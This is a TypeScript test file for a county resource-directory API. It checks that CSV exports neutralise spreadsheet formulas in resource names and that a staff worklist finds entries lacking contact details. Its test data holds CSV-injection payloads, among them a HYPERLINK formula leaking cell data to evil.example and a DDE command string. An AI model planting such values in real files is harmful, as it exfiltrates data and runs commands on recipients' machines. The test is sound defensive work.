// What staff write reaches county officials' spreadsheets: no name may run there as a formula, and the
// staff worklist finds the entries nobody can be told how to reach.
import { parse } from 'csv-parse/sync';
import t from 'tap';
import { createToken } from '../../src/auth/tokens.js';
import { type Body, buildTestApp, request } from '../helpers/app.js';
import { resourceInput } from '../helpers/fixtures.js';

const app = await buildTestApp(t);
const token = await createToken(app.tokens, 'anna-06', { kind: 'county', county: '06' });
const bearer = { authorization: `Bearer ${token}` };

const hostileNames = [
  '=HYPERLINK("http://evil.example/x?d="&B2,"Mer info")',
  '\t=1+2',
  '@SUM(A1:A9)',
  '+cmd|"/c calc"!A1',
];

t.test('the coverage CSV neutralises formulas in resource names', async (t) => {
  for (const name of hostileNames) {
    const created = await request(app, {
      method: 'POST',
      url: '/v1/resources',
      headers: bearer,
      payload: resourceInput({
        name,
        serviceArea: { municipalities: ['0680'] },
        locations: [{ visibility: 'public', municipality: '0680' }],
        cells: [{ area: 'sexual-violence', role: 'perpetrator', group: 'girls' }],
      }),
    });
    t.equal(created.response.statusCode, 201, name);
  }
  const response = await app.inject(
    '/v1/coverage?county=06&area=sexual-violence&role=perpetrator&format=csv',
  );
  t.equal(response.statusCode, 200);
  const rows: string[][] = parse(response.body, { bom: true, delimiter: ';' });
  const girls = rows.find((r) => r[2] === 'Flickor') as string[];
  const named = (girls[8] as string).split('; ');
  t.equal(named.length, hostileNames.length, 'every name listed');
  for (const cell of rows.flat()) t.notMatch(cell, /^[=@+\t\r-]/, `no cell starts a formula: ${cell}`);
  for (const name of hostileNames) t.ok((girls[8] as string).includes(name), `kept as text: ${name}`);
  t.ok((girls[8] as string).startsWith("'"), 'the cell that would start a formula is quoted');
});

t.test('stale?missing=contact lists the entries without phone, e-mail, website or chat', async (t) => {
  const { response, body } = await request(app, '/v1/resources/stale?county=06&missing=contact&limit=100');
  t.equal(response.statusCode, 200);
  t.ok(body.totalItems > 0);
  for (const item of body.items as Body[]) t.same(item.contact, {}, `${item.name} has no contact`);
  const all = await request(app, '/v1/resources?county=06&national=false&limit=100');
  const withoutContact = (all.body.items as Body[]).filter((r) => Object.keys(r.contact).length === 0);
  t.equal(body.totalItems, withoutContact.length, 'every active 06 entry without contact, whenever verified');
  const recent = await request(app, '/v1/resources/stale?county=06&missing=contact&olderThanDays=3650');
  t.ok(recent.body.totalItems < body.totalItems, 'olderThanDays still narrows it when given');
  const stale = await request(app, '/v1/resources/stale?county=06&limit=100');
  t.ok(
    (stale.body.items as Body[]).some((r) => Object.keys(r.contact).length > 0),
    'without missing, entries with contacts are listed too',
  );
});
